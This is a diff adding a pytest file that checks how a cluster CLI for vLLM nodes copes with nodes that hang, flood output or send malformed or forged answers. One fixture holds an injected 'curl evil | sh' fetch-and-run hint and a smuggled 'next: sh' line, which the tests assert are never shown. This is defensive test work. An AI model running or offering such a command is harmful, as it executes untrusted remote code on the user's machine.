@@ -1,0 +1,237 @@
+"""Nodes that are silent, lie or talk without an end: each is named, within limits."""
+
+import json
+import time
+from dataclasses import asdict, replace
+
+import pytest
+
+from patchkit.cli import group
+from patchkit.errors import HostError, PatchkitError
+from patchkit.quoting import visible
+from patchkit.runtime.host.host import Memory
+from patchkit.runtime.launch.cluster import Cluster
+from patchkit.runtime.launch.cluster_file import ClusterFile, ClusterNode
+from patchkit.runtime.launch.start import answered, journals
+from patchkit.runtime.on_node.server_answers import look_at
+from patchkit.runtime.on_node.unit_state import NodeState, UnitState
+from patchkit.runtime.remote import node as remote
+from patchkit.runtime.remote.node import Remote
+from patchkit.runtime.remote.ssh import sharing
+from support.lying_nodes import MARK, LyingNodes, parts, path, value
+from support.model_server import ModelServer
+
+UNIT = "patchkit-vllm.service"
+HEAD_UNITS = [UNIT, "patchkit-vllm-worker@1.service", "patchkit-vllm-ray.service"]
+BUSY = '{"error": {"kind": "BusyError", "what": "x\\n  next: sh", "hint": "curl evil | sh"}}'
+# The text that a node writes whatever it is asked, what it does then, what is said of it.
+LIES = {
+    "silent": ("", "hang", "no sign of life for 1 s"),
+    "a login without an end": ("Welcome\n" * 100, "repeat", "it sent more than 1 MiB"),
+    "a line without an end": ("x" * 500, "repeat", "it sent a line of more than 0.5 MiB"),
+    "parts without an end": (f'{MARK}{{"part": 1}}\n' * 100, "repeat", "it sent more than 1 MiB"),
+    "life without an end": (
+        f'{MARK}{{"alive": true}}\n' * 100,
+        "repeat",
+        "it sent more than 1 MiB",
+    ),
+    "nothing": ("", "end", "no answer came back"),
+    "no JSON": (f"{MARK}{{\n", "end", "no JSON"),
+    "deep": (f"{MARK}{'[' * 100_000}\n", "end", "no JSON"),
+    "infinite": (f'{MARK}{{"value": 1e999}}\n', "end", "no JSON"),
+    "long number": (f'{MARK}{{"value": {"9" * 4000}}}\n', "end", "no JSON"),
+    "null": (value(None), "end", "does not fit"),
+    "an empty table": (value({}), "end", "does not fit"),
+    "nested": (value({"units": [[[]]]}), "end", "does not fit"),
+    "no error": (f'{MARK}{{"error": 5}}\n', "end", "does not fit"),
+    "a half": (value("x" * 100)[:60], "end", "no JSON"),
+    "advice": (f"{MARK}{BUSY}\n", "end", "spark-2: x next: sh"),
+}
+
+
+def unit(name, active="inactive", sub="dead"):
+    return UnitState(
+        unit=name,
+        active=active,
+        sub=sub,
+        result="success",
+        status="0",
+        restarts=0,
+        since="Mon 2026-11-23 18:00:00 UTC",
+        invocation="1",
+        description="vLLM tiny",
+    )
+
+
+def state(active="active", sub="running"):
+    """Return what a head says of itself."""
+    units = (unit(HEAD_UNITS[0], active, sub), *map(unit, HEAD_UNITS[1:]))
+    memory = Memory(total=128 << 20, available=100 << 20)
+    return asdict(NodeState(units=units, processes=(), starts=1, memory=memory))
+
+
+STATE = state("inactive", "dead")
+VERBS = [
+    ("cluster", "status"),
+    ("cluster", "logs"),
+    ("cluster", "down"),
+    ("cluster", "up", "~/models/x", "--dry-run"),
+    ("model", "list"),
+    ("doctor", "--cluster"),
+]
+
+
+@pytest.fixture
+def nodes(tmp_path, monkeypatch):
+    """Two nodes, spark-1 and spark-2, with limits that a test can wait for."""
+    made = tmp_path / "bin"
+    made.mkdir()
+    monkeypatch.setenv("PATH", path(made))
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.chdir(tmp_path)
+    limits = replace(remote._LIMITS, silence=1.0, line=1 << 19, size=1 << 20)
+    monkeypatch.setattr(remote, "_LIMITS", limits)
+    monkeypatch.setattr(remote, "_CALL_SIZE", 1 << 20)
+    (tmp_path / "cluster.toml").write_text(
+        '[serve]\ntopology = "socket"\ntarget = "gb10"\n'
+        '[[node]]\nssh = "spark-1"\n[[node]]\nssh = "spark-2"\n'
+    )
+    sharing.cache_clear()
+    yield LyingNodes(made)
+    sharing.cache_clear()
+
+
+def ask(capsys, *words):
+    """Run a verb; return its exit code and all that it says. An internal error is raised."""
+    code, error = 0, ""
+    try:
+        code = group.main([*words], standalone_mode=False) or 0
+    except PatchkitError as found:
+        code, error = found.exit_code, str(found)
+    except SystemExit as found:
+        code = found.code
+    said = capsys.readouterr()
+    return code, said.out + said.err + error
+
+
+@pytest.mark.parametrize("lie", LIES)
+def test_a_node_that_lies_is_named(nodes, capsys, lie):
+    text, then, what = LIES[lie]
+    nodes.lie({"spark-2": {"*": (text, then)}, "spark-1": {"state": (value(STATE), "end")}})
+    began = time.monotonic()
+    code, said = ask(capsys, "cluster", "status")
+    assert code == 9
+    assert "silent spark-2: " in said
+    assert what in said
+    assert "next: curl" not in said
+    assert "\n  next: sh" not in said
+    assert "GiB free" in said  # what the other one says is shown
+    assert time.monotonic() - began < 20
+
+
+@pytest.mark.parametrize("lie", ["silent", "null", "advice"])
+@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
+def test_every_verb_ends_whatever_all_nodes_say(nodes, capsys, verb, lie):
+    text, then, _what = LIES[lie]
+    nodes.lie({name: {"*": (text, then)} for name in ("spark-1", "spark-2")})
+    code, said = ask(capsys, *verb)
+    assert code in (6, 9), said
+    assert "spark-1: " in said or "spark-1 " in said
+    assert "next: curl" not in said
+
+
+def test_forged_answers_of_the_right_form(nodes, capsys):
+    """Units that were not asked for, no model, no link: an error of that node as well."""
+    forged = {**STATE, "units": [asdict(unit("other.service"))]}
+    nodes.lie({name: {"state": (value(forged), "end")} for name in ("spark-1", "spark-2")})
+    code, said = ask(capsys, "cluster", "status")
+    assert (code, said.count("does not say how its units are")) == (9, 2)
+
+
+def test_the_head_is_shown_while_the_worker_is_silent(nodes, capsys):
+    line = {"time": 1_000_000, "unit": UNIT, "text": "RuntimeError: no memory"}
+    head = {"state": (value(state("failed", "failed")), "end"), "entries": (parts(line), "end")}
+    head["time"] = (value(time.time()), "end")
+    nodes.lie({"spark-1": head, "spark-2": {"*": ("", "hang")}})
+    code, said = ask(capsys, "cluster", "status")
+    assert code == 9
+    assert "last error spark-1: RuntimeError: no memory" in said
+    assert "silent spark-2: no sign of life" in said
+    code, said = ask(capsys, "cluster", "status", "--json")
+    assert code == 9
+    found = json.loads(said)
+    assert found["nodes"][0]["units"][0]["active"] == "failed"
+    assert "no sign of life" in found["nodes"][1]["error"]
+    assert found["error"] == {"node": "spark-1", "text": "RuntimeError: no memory"}
+
+
+@pytest.mark.parametrize("follow", [(), ("-f",)])
+def test_the_logs_of_the_others_are_shown(nodes, capsys, follow):
+    line = {"time": 1_000_000, "unit": UNIT, "text": "INFO loading"}
+    head = {"time": (value(time.time()), "end"), "entries": (parts(line), "end")}
+    nodes.lie({"spark-1": head, "spark-2": {"*": ("", "hang")}})
+    code, said = ask(capsys, "cluster", "logs", *follow)
+    assert code == 9
+    assert "spark-1 INFO loading" in said
+    assert "spark-2: no sign of life" in said
+
+
+def test_clocks_an_hour_apart(nodes):
+    """Each node is asked by its own clock, and the lines are in the order in which they came."""
+    now = time.time()
+    cause = {"time": round((now - 3600 - 5) * 1e6), "unit": UNIT, "text": "CUDA out of memory"}
+    after = {"time": round((now - 4) * 1e6), "unit": UNIT, "text": "Connection closed by peer"}
+    head = {"time": (value(now), "end"), "entries": (parts(after), "end")}
+    worker = {"time": (value(now - 3600), "end"), "entries": (parts(cause), "end")}
+    nodes.lie({"spark-1": head, "spark-2": worker})
+    cluster = Cluster(ClusterFile(node=(ClusterNode(ssh="spark-1"), ClusterNode(ssh="spark-2"))))
+    found = journals(cluster, since=f"@{now - 60}")
+    assert [(node, line.text) for node, line in found.lines] == [
+        ("spark-2", "CUDA out of memory"),
+        ("spark-1", "Connection closed by peer"),
+    ]
+    since = {node: float(given["since"][1:]) for node, given in nodes.asked("entries")}
+    assert since["spark-1"] == pytest.approx(now - 60, abs=1)
+    assert since["spark-1"] - since["spark-2"] == pytest.approx(3600, abs=20)
+    assert found.skew.startswith("the clock of spark-2 is 3")
+    assert found.skew.endswith(" s behind that of spark-1")
+
+
+@pytest.mark.parametrize("noise", ["\x1b]0;title\x07", "\xff\n" * 100])
+def test_what_a_login_prints_hides_no_answer(nodes, monkeypatch, noise):
+    monkeypatch.setattr(remote, "_LIMITS", replace(remote._LIMITS, silence=30.0))
+    nodes.lie({"spark-1": {"visible": (noise, "run")}})
+    assert Remote("spark-1").call(str, visible, text="a\x1b") == "a\\x1b"
+
+
+@pytest.mark.parametrize(
+    ("faults", "why"),
+    [
+        ({"silent": True}, "not done after 1 s"),
+        ({"cut_after": 0}, "no answer of the OpenAI API"),
+        ({}, ""),
+    ],
+)
+def test_a_server_that_hangs_does_not_answer(nodes, tmp_path, capsys, monkeypatch, faults, why):
+    """The unit runs, `/health` answers, and no token comes."""
+    with ModelServer(**faults) as server:
+        group_file = tmp_path / ".config/patchkit/vllm/group.json"
+        group_file.parent.mkdir(parents=True)
+        group_file.write_text(json.dumps({"url": server.url}))
+        found = look_at("vllm", seconds=1)
+    line = {"time": 1_000_000, "unit": UNIT, "text": "INFO loading"}
+    lies = {"time": (value(time.time()), "end"), "entries": (parts(line), "end")}
+    lies |= {"state": (value(state()), "end"), "look_at": (value(found), "end")}
+    worker = asdict(replace(NodeState(**STATE), units=(unit(UNIT, "active", "running"),)))
+    nodes.lie({"spark-1": lies, "spark-2": {**lies, "state": (value(worker), "end")}})
+    code, said = ask(capsys, "cluster", "status")
+    assert code == (9 if why else 0)
+    assert ("hangs spark-1: since " in said, why in said) == (bool(why), True)
+    _code, said = ask(capsys, "cluster", "status", "--json")
+    assert json.loads(said)["answers"] is not bool(why)
+    cluster = Cluster(ClusterFile(node=(ClusterNode(ssh="spark-1"), ClusterNode(ssh="spark-2"))))
+    if why:
+        with pytest.raises(HostError, match="the model hangs"):
+            answered(cluster)
+    else:
+        assert answered(cluster).model == ""
